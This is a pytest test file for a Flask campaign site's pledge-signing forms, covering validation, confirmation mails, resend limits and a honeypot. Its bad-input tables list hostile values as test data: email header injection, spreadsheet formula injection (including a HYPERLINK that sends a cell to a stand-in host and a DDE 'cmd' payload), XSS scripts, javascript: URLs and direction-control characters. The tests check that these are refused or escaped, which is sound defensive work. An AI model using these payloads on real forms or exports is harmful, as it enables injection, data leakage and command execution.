"""Signing: two forms, a bad-input table for each, duplicates without leaks, the honeypot."""

from __future__ import annotations

import datetime as dt
import html
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from campaign.core.jobs import SEND_EMAIL
from campaign.extensions import db
from campaign.pledges import services
from campaign.pledges.mail import MAX_MAILS_PER_PLEDGE
from tests.pledges.helpers import (
    CHECK_EMAIL,
    at,
    confirm,
    links_in,
    outbox,
    pledge_by_email,
    pledges,
    sign,
    state,
)
from tests.support.auth import log_in, make_user

KINDS = ["individual", "organisation"]


@pytest.mark.parametrize("kind", KINDS)
def test_form_renders(client: FlaskClient, kind: str) -> None:
    response = client.get(f"/pledge/{kind}")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert 'name="csrf_token"' in page and 'name="accept_privacy"' in page
    assert 'name="is_public" type="checkbox" value="y">' in page  # unticked by default


@pytest.mark.parametrize("kind", KINDS)
def test_valid_pledge_is_stored_unconfirmed_with_one_mail(
    client: FlaskClient, published_jobs: list[Any], kind: str
) -> None:
    response = sign(client, kind)
    assert response.status_code == 302
    assert response.headers["Location"].endswith(CHECK_EMAIL)
    [pledge] = pledges()
    assert pledge.kind == kind and pledge.confirmed_at is None and not pledge.is_counted
    [mail] = outbox()
    assert mail.idempotency_key == f"pledge-confirm:{pledge.id}:1"
    assert mail.to_address == pledge.email
    assert published_jobs == [(SEND_EMAIL, (mail.id,))]
    confirm_link, manage_link = links_in(mail.body_text)
    assert links_in(mail.body_html or "") == (confirm_link, manage_link)
    assert "Confirm my pledge" in client.get(confirm_link).get_data(as_text=True)
    assert client.get(manage_link).status_code == 200
    page = client.get(CHECK_EMAIL).get_data(as_text=True)
    assert "Check your email" in page and "already" not in page.lower()


def test_mail_is_published_only_after_commit(app: Flask, published_jobs: list[Any]) -> None:
    data = services.PledgeData(
        kind="individual", name="Amina", email="amina@example.org", country_id=state("PHL").id
    )
    services.sign_pledge(data=data, ip="203.0.113.9")
    assert len(outbox()) == 1 and published_jobs == []
    db.session.rollback()
    assert pledges() == [] and outbox() == [] and published_jobs == []
    services.sign_pledge(data=data, ip="203.0.113.9")
    db.session.commit()
    assert published_jobs == [(SEND_EMAIL, (outbox()[0].id,))]


LONG_NAME = "N" * 201
BadInput = list[tuple[dict[str, Any], str]]
COMMON_BAD: BadInput = [
    ({"country": ""}, "Please choose a country."),
    ({"country": "ZZZ"}, "Not a valid choice"),
    ({"email": ""}, "email"),
    ({"email": "not-an-email"}, "Please give a valid email address."),
    ({"email": "amina@example"}, "Please give a valid email address."),
    ({"email": "amina@example.org\r\nBcc: victim@example.org"}, "valid email address"),
    ({"email": "a" * 250 + "@example.org"}, "longer than 254"),
    ({"name": ""}, "Please give"),
    ({"name": "   "}, "Please give"),
    ({"name": LONG_NAME}, "longer than 200"),
    ({"name": "Amina\r\nBcc: victim@example.org"}, "line breaks"),
    ({"name": "Amina\nYusuf"}, "line breaks"),
    ({"name": '=HYPERLINK("https://evil.example/?"&A1,"Click")'}, "start with a letter"),
    ({"name": "+1"}, "start with a letter"),
    ({"name": "@SUM(1+1)*cmd|' /C calc'!A0"}, "start with a letter"),
    ({"name": "-2+3"}, "start with a letter"),
    ({"name": "<script>alert(1)</script>"}, "Please do not use the characters < and >."),
    ({"name": "Amina \u202eFSP.exe"}, "direction-control"),
    ({"name": "Amina\u2066Yusuf"}, "direction-control"),
    ({"accept_privacy": None}, "Please accept the privacy notice to sign."),
]
BAD_INPUT: dict[str, BadInput] = {
    "individual": [
        *COMMON_BAD,
        ({"message": "m" * 1001}, "longer than 1000"),
        ({"message": "Hello\x00world"}, "control characters"),
        ({"message": "Hello \u202eworld"}, "direction-control"),
    ],
    "organisation": [
        *COMMON_BAD,
        ({"organisation_name": ""}, "Please give the organisation's name."),
        ({"organisation_name": "O" * 201}, "longer than 200"),
        ({"organisation_name": '=HYPERLINK("https://evil.example")'}, "start with a letter"),
        ({"organisation_name": "+1"}, "start with a letter"),
        ({"organisation_name": "@SUM(A1:A9)"}, "start with a letter"),
        ({"organisation_name": "<script>alert(1)</script>"}, "< and >"),
        ({"organisation_name": "Kafa'a\u202e"}, "direction-control"),
        ({"organisation_name": "Kafa'a\r\nBcc: x@example.org"}, "line breaks"),
        ({"organisation_kind": ""}, "Please choose the kind of organisation."),
        ({"organisation_kind": "bank"}, "Not a valid choice"),
        ({"website": "javascript:alert(1)"}, "starting with https://"),
        ({"website": "javascript://kafaa.example.org/%0Aalert(1)"}, "starting with https://"),
        ({"website": "data://text.html/base64,PHNjcmlwdD4="}, "starting with https://"),
        ({"website": "not a url"}, "starting with https://"),
        ({"website": "https://" + "w" * 300 + ".org"}, "longer than 300"),
        ({"contact_role": ""}, "Please give the contact's role."),
        ({"contact_role": "=1+1"}, "start with a letter"),
        ({"message": ""}, "Please write a statement of support."),
        ({"message": "s" * 2001}, "longer than 2000"),
    ],
}
BAD_CASES = [
    pytest.param(kind, changes, message, id=f"{kind}-{'-'.join(changes)}-{index}")
    for kind in KINDS
    for index, (changes, message) in enumerate(BAD_INPUT[kind])
]


@pytest.mark.parametrize(("kind", "changes", "message"), BAD_CASES)
def test_bad_input_is_refused_with_a_message_and_writes_nothing(
    client: FlaskClient,
    published_jobs: list[Any],
    kind: str,
    changes: dict[str, Any],
    message: str,
) -> None:
    response = sign(client, kind, **changes)
    assert response.status_code == 400
    page = html.unescape(response.get_data(as_text=True))
    assert message in page
    assert 'role="alert"' in page
    assert pledges() == [] and outbox() == [] and published_jobs == []


@pytest.mark.parametrize("kind", KINDS)
def test_missing_csrf_token_is_refused(
    client: FlaskClient, published_jobs: list[Any], kind: str
) -> None:
    response = sign(client, kind, csrf=False)
    assert response.status_code == 400
    assert "Your form expired" in response.get_data(as_text=True)
    assert pledges() == [] and outbox() == [] and published_jobs == []


NAMES = [
    "أمينة",  # Arabic, right to left
    "שרה כהן",  # Hebrew, right to left
    "𝔘𝔫𝔦 Fraktur",  # astral (outside the Basic Multilingual Plane)
    "Amina 🌍🙂",  # emoji, astral too
    "Nguyễn Thị Ánh",  # combining-heavy Latin
]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("kind", KINDS)
def test_names_in_any_script_are_accepted_and_mailed_intact(
    client: FlaskClient, kind: str, name: str
) -> None:
    field = "name" if kind == "individual" else "organisation_name"
    changes: dict[str, Any] = {field: name}
    assert sign(client, kind, **changes).status_code == 302
    [pledge] = pledges()
    assert getattr(pledge, field) == name
    [mail] = outbox()
    assert name in mail.body_text
    assert name in (mail.body_html or "")


def test_markup_is_accepted_in_statements_and_shown_escaped(client: FlaskClient) -> None:
    script = "<script>alert(1)</script>"
    contact = "أمينة 𝔘𝔫𝔦 🙂"
    organisation = "O'Brien & Daughters"
    assert (
        sign(
            client, "organisation", message=script, name=contact, organisation_name=organisation
        ).status_code
        == 302
    )
    pledge = pledge_by_email("rana@kafaa.example.org")
    assert pledge.message == script
    [mail] = outbox()
    assert "O'Brien & Daughters" in mail.body_text
    assert "O&#39;Brien &amp; Daughters" in (mail.body_html or "")
    confirm(client, links_in(mail.body_text)[0])
    log_in(client, make_user("coordinator"))
    page = client.get("/admin/pledges/moderation").get_data(as_text=True)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert script not in page
    assert contact in page and "O&#39;Brien &amp; Daughters" in page


def test_individual_message_with_markup_is_accepted(client: FlaskClient) -> None:
    assert sign(client, message="I <3 this <script>alert(1)</script>").status_code == 302
    [pledge] = pledges()
    assert pledge.message == "I <3 this <script>alert(1)</script>"


START = dt.datetime(2026, 12, 18, 9, 0, tzinfo=dt.UTC)


def _sign_at(
    client: FlaskClient, minutes: int, email: str, kind: str = "individual"
) -> tuple[int, str, str]:
    with at(START + dt.timedelta(minutes=minutes)):
        response = sign(client, kind, email=email)
        return response.status_code, response.headers["Location"], response.get_data(as_text=True)


# (minutes after the first signature, address given, mails queued in all afterwards)
SIGNING_AGAIN = [
    (1, "Amina.Yusuf@Example.org", 1),  # within the two-minute cooldown: nothing sent
    (3, "amina.yusuf+pledge@example.org", 2),
    (4, "AMINA.YUSUF@EXAMPLE.ORG", 2),  # cooldown again
    (6, "amina.yusuf@example.org", 3),
    (9, "amina.yusuf@example.org", 4),
    (12, "amina.yusuf@example.org", 5),
    (15, "amina.yusuf@example.org", 5),  # the cap: never a sixth
    (60 * 24, "amina.yusuf@example.org", 5),
]


def test_signing_again_resends_within_cooldown_and_cap(client: FlaskClient) -> None:
    first = _sign_at(client, 0, "amina.yusuf@example.org")
    assert first[0] == 302 and first[1].endswith(CHECK_EMAIL)
    [pledge] = pledges()
    for minutes, email, mails in SIGNING_AGAIN:
        assert _sign_at(client, minutes, email) == first, minutes
        assert len(outbox()) == mails, minutes
    assert [p.id for p in pledges()] == [pledge.id]
    keys = [mail.idempotency_key for mail in outbox()]
    assert keys == [f"pledge-confirm:{pledge.id}:{n}" for n in range(1, MAX_MAILS_PER_PLEDGE + 1)]
    assert all("/pledge/confirm/" in mail.body_text for mail in outbox())
    assert pledges()[0].mails_sent == MAX_MAILS_PER_PLEDGE


@pytest.mark.parametrize(
    ("kind", "email", "status"),
    [
        ("individual", "amina.yusuf@example.org", "confirmed and counted"),
        ("organisation", "rana@kafaa.example.org", "confirmed; we will email you"),
    ],
)
def test_signing_again_after_confirming_sends_the_already_confirmed_mail(
    client: FlaskClient, kind: str, email: str, status: str
) -> None:
    first_answer = _sign_at(client, 0, email, kind)
    [pledge] = pledges()
    with at(START + dt.timedelta(minutes=1)):
        assert confirm(client, links_in(outbox()[0].body_text)[0]).status_code == 200
    again = _sign_at(client, 5, email.replace("@", "+again@").upper(), kind)
    assert again == first_answer
    first, second = outbox()
    assert second.idempotency_key == f"pledge-confirm:{pledge.id}:2"
    assert second.subject == "Your pledge of support is confirmed" != first.subject
    assert f"already {status}" in second.body_text
    assert "/pledge/confirm/" not in second.body_text
    assert "already" not in client.get(CHECK_EMAIL).get_data(as_text=True).lower()


def test_an_individual_and_an_organisation_may_share_an_address(client: FlaskClient) -> None:
    assert sign(client, "individual", email="rana@kafaa.example.org").status_code == 302
    assert sign(client, "organisation").status_code == 302
    assert [p.kind for p in pledges()] == ["individual", "organisation"]
    assert len(outbox()) == 2


@pytest.mark.parametrize("kind", KINDS)
def test_filled_honeypot_gets_the_same_answer_and_writes_nothing(
    client: FlaskClient, published_jobs: list[Any], kind: str
) -> None:
    response = sign(client, kind, homepage="https://spam.example")
    assert response.status_code == 302
    assert (
        response.headers["Location"]
        == sign(client, kind, email="x@example.org").headers["Location"]
    )
    assert [p.email for p in pledges()] == ["x@example.org"]
    assert len(outbox()) == 1 and len(published_jobs) == 1
